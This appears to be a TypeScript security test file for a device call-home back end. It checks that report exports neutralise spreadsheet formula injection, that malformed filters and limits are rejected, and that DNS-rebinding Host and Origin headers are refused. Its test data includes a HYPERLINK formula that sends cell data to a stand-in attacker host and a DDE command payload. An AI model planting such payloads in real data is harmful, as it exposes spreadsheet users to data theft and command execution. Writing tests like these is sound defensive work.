/**
 * Issue 11, item 8 — reports and API inputs. Attacks on loopback against a real back end:
 * spreadsheet formulas planted in device text and exported as CSV; malformed, misspelt and
 * out-of-range filters and limits (each must be a 400 with a message, never "everything"); and
 * DNS rebinding — requests to the API and the stream under a foreign Host or from a foreign Origin.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildMessage } from '../backend/build-message.js';
import { api, postXml, startTestBackend, TOKEN, type TestBackend } from '../backend/helpers.js';
import { renderXml } from '../../src/callhome/codec.js';
import { readXlsx } from '../support/report-files.js';
import { rawRequest, upgradeStatus } from './helpers.js';
import { coveredFixture, importBackOffice } from '../backend/entitlement/fixtures.js';

let b: TestBackend;
const auth = { authorization: `Bearer ${TOKEN}` };

beforeAll(async () => {
  b = await startTestBackend({ smtpPort: null, serverNames: ['callhome.example.net'] });
});
afterAll(async () => {
  await b.stop();
});

describe('CSV and spreadsheet formula injection', () => {
  it('exports device text that starts with = + - @ as text, not a formula', async () => {
    const planted = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A9)'];
    for (const [i, hostname] of planted.entries()) {
      const xml = renderXml(buildMessage({ serialNumber: `CSVINJ${i}`, messageId: `csv-${i}`, hostname, model: i === 0 ? '=1+1' : 'ISR4451' }));
      expect((await postXml(b.url, xml)).status).toBe(200);
    }
    // The device report lists registered devices (S77): confirm each with the token of its Pending Registration mail
    // (the back office covers them, S13).
    await importBackOffice(b.url, coveredFixture(planted.map((_, i) => `CSVINJ${i}`)));
    const notes = (await api<{ notifications: { serial: string | null; kind: string; body: string }[] }>(b.url, '/notifications')).body.notifications;
    for (const i of planted.keys()) {
      const token = /Security token: (\S+)/.exec(notes.find((n) => n.serial === `CSVINJ${i}` && n.kind === 'pending-registration')?.body ?? '')?.[1];
      expect((await api(b.url, `/registrations/CSVINJ${i}/confirm`, { method: 'POST', body: { token } })).status).toBe(200);
    }
    for (const kind of ['device', 'history']) {
      const r = await rawRequest(b.url, `/api/v1/reports/${kind}?format=csv`, { headers: auth });
      expect(r.status).toBe(200);
      const rows = parse(r.body, { columns: true }) as Record<string, string>[];
      const hostnames = rows.filter((row) => (row['serial'] ?? '').startsWith('CSVINJ')).map((row) => row['hostname'] ?? '');
      expect(hostnames.sort()).toEqual(planted.map((p) => `'${p}`).sort());
      for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    }
    // The JSON report keeps the data as it came (machine output)
    const json = await api<{ rows: { hostname: string }[] }>(b.url, '/reports/device');
    expect(json.body.rows.map((r) => r.hostname)).toContain(planted[0]);
    // Excel (issue 16): the planted text is a text cell, never a formula.
    const xlsx = await fetch(`${b.url}/api/v1/reports/device?format=xlsx`, { headers: auth });
    const sheet = [...(await readXlsx(new Uint8Array(await xlsx.arrayBuffer()))).values()][0] ?? [];
    expect(sheet.map((row) => row[0]).filter((h) => planted.includes(h ?? ''))).toHaveLength(planted.length);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await (await fetch(`${b.url}/api/v1/reports/device?format=xlsx`, { headers: auth })).arrayBuffer()));
    wb.worksheets[0]?.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});

describe('filters and limits', () => {
  const bad: [string, RegExp][] = [
    ['/messages?since=yesterday', /since: must be an ISO 8601 date/],
    ['/messages?since=2026-13-45', /since: is not a real date/],
    ['/messages?since=', /since/],
    ['/messages?until=2026-01-01&since=2026-02-01', /since must be before until/],
    ['/messages?sinse=2026-01-01', /unknown parameter sinse/],
    ['/messages?type=everything', /type/],
    ['/messages?severity=loud', /severity/],
    ['/messages?limit=100000', /limit/],
    ['/messages?limit=-1', /limit/],
    ['/messages?limit=10&limit=100000', /limit: given more than once/],
    ['/notifications?limit=-5', /limit/],
    ['/notifications?limit=5000', /limit/],
    ['/notifications?limit=all', /limit/],
    ['/reports/device?format=docx', /format/],
    ['/reports/device?type=syslog', /does not take type/],
    ['/reports/history?since=2026-02-01&until=2026-01-01', /since must be before until/],
  ];
  it.each(bad)('%s is a 400 with a message', async (path, reason) => {
    const r = await api<{ error: string; reason: string }>(b.url, path);
    expect(r.status).toBe(400);
    expect(r.body.error).toBe('bad-query');
    expect(r.body.reason).toMatch(reason);
  });

  it('applies a valid since, and caps limits', async () => {
    expect((await api<{ messages: unknown[] }>(b.url, '/messages?since=2999-01-01')).body.messages).toEqual([]);
    const all = await api<{ messages: unknown[] }>(b.url, '/messages?since=2000-01-01T00:00:00Z&limit=2');
    expect(all.status).toBe(200);
    expect(all.body.messages).toHaveLength(2);
    const n = await api<{ notifications: unknown[] }>(b.url, '/notifications?limit=1');
    expect(n.body.notifications).toHaveLength(1);
  });
});

describe('DNS rebinding: Host and Origin', () => {
  it('refuses the API and the stream under a name the service is not configured to answer to', async () => {
    const evil = await rawRequest(b.url, '/api/v1/devices', { headers: { ...auth, host: `rebind.evil.example:${b.httpPort}` } });
    expect(evil.status).toBe(421);
    expect(JSON.parse(evil.body)).toMatchObject({ error: 'misdirected', reason: expect.stringMatching(/--server-name/) as unknown });
    expect((await upgradeStatus(b.url, '/events', { headers: { ...auth, host: 'rebind.evil.example' } })).status).toBe(421);
    // A browser page of another site (its Origin), even under an allowed Host
    expect((await rawRequest(b.url, '/api/v1/devices', { headers: { ...auth, origin: 'http://rebind.evil.example' } })).status).toBe(421);
    expect((await upgradeStatus(b.url, '/events', { headers: { ...auth, origin: 'http://rebind.evil.example' } })).status).toBe(421);
    expect((await upgradeStatus(b.url, '/events', { headers: { ...auth, origin: 'null' } })).status).toBe(421);
  });

  it('answers to the listen address, localhost, IP literals and the configured --server-name', async () => {
    for (const host of [`127.0.0.1:${b.httpPort}`, `localhost:${b.httpPort}`, `callhome.example.net:${b.httpPort}`, 'CALLHOME.example.net.', `[::1]:${b.httpPort}`]) {
      expect((await rawRequest(b.url, '/api/v1/devices', { headers: { ...auth, host } })).status, host).toBe(200);
    }
    expect((await upgradeStatus(b.url, '/events', { headers: { ...auth, origin: `http://localhost:${b.httpPort}` } })).status).toBe(101);
  });

  it('keeps the device endpoint open under any name (devices are configured with whatever name resolves)', async () => {
    const xml = renderXml(buildMessage({ serialNumber: 'HOSTANY1', messageId: 'h-1', hostname: 'R1' }));
    const r = await rawRequest(b.url, '/its/service/oddce/services/DDCEService', { method: 'POST', headers: { host: 'sch.customer.example', 'content-type': 'application/soap+xml' }, body: xml });
    expect(r.status).toBe(200);
  });
});
